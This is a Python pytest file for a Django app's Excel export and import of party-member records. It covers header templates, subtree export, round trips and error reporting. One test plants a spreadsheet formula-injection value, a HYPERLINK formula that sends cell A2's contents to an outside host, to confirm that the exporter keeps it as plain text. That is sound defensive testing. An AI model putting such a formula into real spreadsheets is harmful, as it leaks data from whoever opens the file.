"""The template, the export of a subtree, and the export → import round trip through the commands."""

import datetime as dt

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from tochuc.audit.models import AuditEvent
from tochuc.people.models import Person, PersonCorrection
from tochuc.people.services import person_create
from tochuc.people.tests.import_helpers import member, write_book
from tochuc.people.tests.test_import_service import counts

pytestmark = pytest.mark.django_db

REQUIRED_HEADERS = [
    "Mã đơn vị",
    "Họ và tên",
    "Ngày sinh",
    "Giới tính",
    "Dân tộc",
    "Số CCCD",
    "Ngày vào Đảng",
    "Ngày chính thức",
    "Trình độ chuyên môn",
    "Lý luận chính trị",
]


def command(*args):
    from io import StringIO

    out, err = StringIO(), StringIO()
    try:
        call_command(*args, stdout=out, stderr=err)
    except CommandError as exc:
        return exc.returncode, out.getvalue(), err.getvalue() + str(exc)
    return 0, out.getvalue(), err.getvalue()


def test_template_headers_and_guide(tmp_path):
    path = tmp_path / "mau.xlsx"
    assert command("people_export", str(path), "--template")[0] == 0
    workbook = load_workbook(path)
    first, guide = workbook.worksheets
    headers = [c.value for c in first[1]]
    assert headers[0] == "Mã đảng viên"
    for header in [*REQUIRED_HEADERS, "Tôn giáo", "Quê quán", "Nơi ở hiện nay", "Chức vụ hiện tại"]:
        assert header in headers
    assert {"Tình trạng đảng viên", "Số thẻ đảng viên"} <= set(headers)
    assert first.max_row == 1
    assert guide.title == "Hướng dẫn"
    described = {row[0]: row for row in guide.iter_rows(values_only=True) if row and row[0] in headers}
    assert set(described) == set(headers)
    assert described["Lý luận chính trị"][3] == "Chưa qua đào tạo / Sơ cấp / Trung cấp / Cao cấp / Cử nhân"
    assert described["Giới tính"][3] == "Nam / Nữ"
    assert described["Ngày sinh"][3] == "dd/mm/yyyy"


def test_the_empty_template_imports_nothing(tree, tmp_path):
    path = tmp_path / "mau.xlsx"
    command("people_export", str(path), "--template")
    assert command("people_import", str(path)) == (0, "0 imported (0 new, 0 updated, 0 unchanged)\n", "")


def _people(tree):
    person_create(
        actor=None,
        unit=tree.cell,
        code="HT-0001",
        values={
            "full_name": "Nguyễn Thị Hồng Nhung",
            "birth_date": dt.date(1985, 2, 28),
            "gender": "female",
            "ethnicity": "Tày",
            "religion": "Phật giáo",
            "hometown": "Xã An Bình, tỉnh Hà Tĩnh",
            "citizen_id": "042185000123",
            "professional_qualification": "Thạc sĩ Quản lý công",
            "political_theory_level": "advanced",
            "current_post": "Bí thư chi bộ",
            "recruited_on": dt.date(2008, 9, 1),
        },
        membership={
            "status": "full",
            "admitted_on": dt.date(2007, 5, 19),
            "full_member_on": dt.date(2008, 5, 19),
            "card_number": "42012345",
        },
    )
    person_create(
        actor=None,
        unit=tree.commune2,
        code="HT-0002",
        values={"full_name": "Phạm Minh Đức", "birth_date": dt.date(1999, 12, 31), "gender": "male"},
    )
    person_create(
        actor=None,
        unit=tree.other_cell,
        code="QT-0001",
        values={"full_name": "Võ Văn Em", "birth_date": dt.date(1960, 1, 1), "gender": "male"},
        membership={
            "status": "exempt",
            "admitted_on": dt.date(1985, 1, 1),
            "full_member_on": dt.date(1986, 1, 1),
        },
    )


def test_export_of_a_subtree(tree, tmp_path):
    _people(tree)
    path = tmp_path / "t01.xlsx"
    assert command("people_export", str(path), "--unit", "T01") == (0, f"2 exported to {path}\n", "")
    sheet = load_workbook(path).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Mã đảng viên"
    by_code = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert set(by_code) == {"HT-0001", "HT-0002"}
    nhung = by_code["HT-0001"]
    assert nhung["Số CCCD"] == "042185000123"  # the operator's export carries the citizen ID
    assert nhung["Ngày sinh"] == dt.datetime(1985, 2, 28)
    assert nhung["Giới tính"] == "Nữ" and nhung["Lý luận chính trị"] == "Cao cấp"
    assert nhung["Tình trạng đảng viên"] == "Chính thức"
    assert sheet["E2"].number_format == "dd/mm/yyyy"
    event = AuditEvent.objects.filter(action="person.export").latest("seq")
    assert event.summary["rows"] == 2 and event.actor_label == "hệ thống"


def test_the_operator_export_keeps_formula_like_text_as_text(tree, tmp_path):
    _people(tree)
    hyperlink = '=HYPERLINK("http://x?d="&A2,"y")'
    Person.objects.filter(code="HT-0001").update(residence=hyperlink, other_names="-2", workplace="+1")
    path = tmp_path / "t01.xlsx"
    assert command("people_export", str(path), "--unit", "T01")[0] == 0
    sheet = load_workbook(path).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "HT-0001")
    cells = dict(zip(header, row, strict=True))
    for name, value in (("Nơi ở hiện nay", hyperlink), ("Tên gọi khác", "-2"), ("Cơ quan công tác", "+1")):
        assert (cells[name].value, cells[name].data_type) == (value, "s")


def test_export_then_import_changes_nothing(tree, tmp_path):
    _people(tree)
    path = tmp_path / "ca-cay.xlsx"
    assert command("people_export", str(path))[0] == 0
    before = list(Person.objects.order_by("pk").values())
    audit_before = AuditEvent.objects.count()
    assert command("people_import", str(path)) == (0, "3 imported (0 new, 0 updated, 3 unchanged)\n", "")
    assert list(Person.objects.order_by("pk").values()) == before
    assert PersonCorrection.objects.count() == 0
    assert AuditEvent.objects.count() == audit_before + 1  # the import itself, with its counts


def test_cli_reports_one_line_per_bad_cell_and_exits_1(tree, tmp_path):
    path = write_book(
        tmp_path / "loi.xlsx",
        [member(), member(Họ_và_tên="Lê Thị Cúc", Ngày_sinh="31/02/1980", Số_CCCD="001080012345")],
    )
    before = counts()
    code, out, err = command("people_import", str(path))
    assert code == 1 and out == ""
    assert err.splitlines() == [
        "Row 3, column Ngày sinh: 31/02/1980 không phải là ngày (ghi dd/mm/yyyy).",
        "Row 3, column Số CCCD: Số CCCD trùng với dòng 2.",
        "2 errors, nothing imported",
    ]
    assert counts() == before


def test_cli_dry_run_writes_nothing(tree, tmp_path):
    path = write_book(tmp_path / "thu.xlsx", [member()])
    before = counts()
    assert command("people_import", str(path), "--dry-run") == (
        0,
        "1 imported (dry run, nothing written: 1 new, 0 updated, 0 unchanged)\n",
        "",
    )
    assert counts() == before
    assert command("people_import", str(path))[1] == "1 imported (1 new, 0 updated, 0 unchanged)\n"
    assert command("people_import", str(path))[1] == "1 imported (0 new, 0 updated, 1 unchanged)\n"
    assert Person.objects.count() == 1
